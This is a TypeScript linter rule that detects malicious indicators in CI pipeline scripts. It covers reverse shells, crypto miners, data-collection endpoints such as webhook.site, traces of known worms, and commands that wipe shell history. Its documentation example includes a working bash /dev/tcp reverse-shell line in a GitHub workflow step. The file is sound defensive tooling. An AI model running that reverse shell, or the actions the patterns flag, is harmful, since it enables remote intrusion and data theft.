import type { Profile } from '../../server/core/finding.ts';
import { matchesIn } from '../../server/core/parse/shell/text-match.ts';
import { defineRule } from '../../server/core/rule.ts';

const HINT =
  /\/dev\/(?:tcp|udp)\/|\b(?:nc|ncat|netcat|mkfifo|socket|xmrig|minerd|cpuminer|stratum|history|HISTFILE)\b|bash_history|webhook\.site|oast|interact\.sh|requestbin|pipedream|burpcollaborator|dnslog|canarytokens|shai-hulud|s1ngularity|pool\./i;

interface Indicator {
  readonly what: string;
  readonly pattern: RegExp;
  readonly profile?: Profile;
}

const SHELL = String.raw`(?:\/(?:usr\/)?bin\/)?(?:ba|da|z|k)?sh`;
const INDICATORS: readonly Indicator[] = [
  {
    what: 'a shell on a network connection',
    pattern: new RegExp(
      [
        String.raw`\b${SHELL}\s+-i\b[^\n]{0,80}\/dev\/(?:tcp|udp)\/[^\n]{0,200}`,
        String.raw`\/dev\/(?:tcp|udp)\/[\w.$-]{1,80}\/[\w$]{1,20}[^\n]{0,20}0>&1`,
        String.raw`\b(?:nc|ncat|netcat)\s[^\n|;]{0,120}\s-[a-z]{0,6}[ec]\s+${SHELL}\b`,
        String.raw`\b${SHELL}\s+-i\b[^\n|]{0,80}\|\s*(?:nc|ncat|netcat)\s[^\n]{0,80}`,
        String.raw`\bsocket\.socket\([^\n]{0,200}\b(?:dup2|pty\.spawn|subprocess\.(?:call|Popen|run))\(`,
      ].join('|'),
      'g',
    ),
  },
  {
    what: 'a cryptocurrency miner',
    pattern:
      /\b(?:xmrig|minerd|cpuminer|xmr-stak|nbminer|t-rex-miner)\b[^\n]{0,100}|\bstratum\+(?:tcp|ssl|udp):\/\/[^\s"']{1,200}|\b(?:[\w-]{1,40}\.)?(?:minexmr|nanopool|supportxmr|moneroocean|2miners|f2pool)\.(?:com|org|stream)\b/gi,
  },
  {
    what: 'an address that collects stolen data',
    pattern:
      /(?:https?:\/\/)?(?:[\w-]{1,63}\.){0,3}(?:webhook\.site|oast\.(?:pro|live|site|online|fun|me)|oastify\.com|interact\.sh|requestbin\.(?:com|net)|m\.pipedream\.net|burpcollaborator\.net|dnslog\.cn|canarytokens\.com)\b[^\s"']{0,200}/gi,
  },
  {
    what: 'the trace of a known worm',
    pattern:
      /\bshai-hulud-workflow\.ya?ml\b|\bSha1-Hulud\b|\bShai-Hulud(?: Migration)?\b|\bs1ngularity-repository[\w-]{0,20}|\bbb8ca5f6-4175-45d2-b042-fc9ebb8170b7\b/gi,
  },
  {
    what: 'a command that wipes the shell history',
    pattern:
      /\bhistory\s+-c\b|\bunset\s+HISTFILE\b|\bHISTFILE=\/dev\/null\b|\b(?:rm|shred|truncate)\s[^\n;|]{0,60}\.bash_history\b/g,
    profile: 'strict',
  },
];

export default defineRule({
  id: 'malicious-indicator',
  summary: 'A script holds what attacks are known by: a reverse shell, a miner, a drop for data',
  severity: 'critical',
  confidence: 'medium',
  profile: 'default',
  owasp: ['CICD-SEC-4', 'CICD-SEC-6'],
  cwe: [506],
  since: '0.1.0',
  fix: 'none',
  equivalents: { 'pipeline-check': ['GHA-027', 'GHA-056', 'GL-025'] },
  docs: `
    ## What it does
    Reports text that honest pipelines hardly ever hold: an interactive shell on a network connection, programs and
    addresses for mining coins, services that collect whatever is sent to them (\`webhook.site\`, \`oast.fun\`, …), files that
    known worms leave behind, and, in the \`strict\` profile, commands that wipe the shell's history.

    ## Why is this bad?
    Who has got write access to a pipeline leaves such lines in it, often in a commit that claims to do something else. If
    this one is yours on purpose, as an exercise or a detection rule, say so in an ignore comment.

    ## Example
    \`\`\`yaml bad .github/workflows/ci.yml
    on: push
    permissions: {}
    jobs:
      build:
        runs-on: ubuntu-latest
        steps:
          - run: bash -i >& /dev/tcp/192.0.2.7/4444 0>&1
    \`\`\`
    Use instead:
    \`\`\`yaml good .github/workflows/ci.yml
    on: push
    permissions: {}
    jobs:
      build:
        runs-on: ubuntu-latest
        steps:
          - run: until (echo > /dev/tcp/localhost/5432) 2>/dev/null; do sleep 1; done
    \`\`\`
  `,
  check: {
    script(ctx, script) {
      if (!HINT.test(script.text)) return;
      for (const { what, pattern, profile } of INDICATORS) {
        for (const { span } of matchesIn(script, pattern))
          ctx.report({
            span,
            message: `This is ${what}, as used in attacks; find out who put it here and why.`,
            ...(profile && { profile, severity: 'medium' }),
          });
      }
    },
  },
});
